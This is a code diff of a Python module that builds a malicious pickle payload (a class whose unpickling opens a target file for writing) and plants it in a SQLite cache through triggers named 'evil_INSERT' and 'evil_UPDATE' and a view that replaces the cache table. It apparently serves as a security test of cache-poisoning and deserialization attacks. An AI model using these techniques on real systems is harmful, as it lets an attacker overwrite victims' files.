@@ -6,14 +6,17 @@ import pickle
 import shutil
 import sqlite3
 from contextlib import closing
-from pathlib import Path
 from typing import TYPE_CHECKING, Any
 
 if TYPE_CHECKING:
     from collections.abc import Callable
+    from pathlib import Path
 
 SEAL_BYTES = 32
-TYPES = ("INTEGER", "TEXT", "BLOB")
+TRIGGER = (
+    "CREATE TRIGGER evil_EVENT AFTER EVENT ON Cache"
+    " BEGIN UPDATE Cache SET value = x'HEX', mode = 4; END"
+)
 
 
 class Boom:
@@ -23,7 +26,7 @@ class Boom:
         self.target = str(target)
 
     def __reduce__(self) -> tuple[Any, ...]:
-        return (open, (self.target, "w"))
+        return open, (self.target, "w")
 
 
 def boom(target: Path, protocol: int = 4) -> bytes:
@@ -100,11 +103,10 @@ def settings(store: Path, target: Path, **_: Any) -> None:
 
 def triggers(store: Path, target: Path, **_: Any) -> None:
     """Plant triggers that change what is written and read."""
-    sql = f"UPDATE Cache SET value = x'{boom(target).hex()}', mode = 4;"
     with database(store) as db:
         for event in ("INSERT", "UPDATE"):
             db.execute(
-                f"CREATE TRIGGER evil_{event} AFTER {event} ON Cache BEGIN {sql} END"
+                TRIGGER.replace("EVENT", event).replace("HEX", boom(target).hex())
             )
 
 
@@ -113,7 +115,7 @@ def view(store: Path, target: Path, **_: Any) -> None:
     with database(store) as db:
         db.execute("ALTER TABLE Cache RENAME TO Hidden")
         rows = f"SELECT key, 1 AS raw, x'{boom(target).hex()}' AS value, 4 AS mode"
-        db.execute(f"CREATE VIEW Cache AS {rows}, NULL AS filename FROM Hidden")  # noqa: S608
+        db.execute(f"CREATE VIEW Cache AS {rows}, NULL AS filename FROM Hidden")
 
 
 def packs(store: Path, target: Path, **_: Any) -> None:
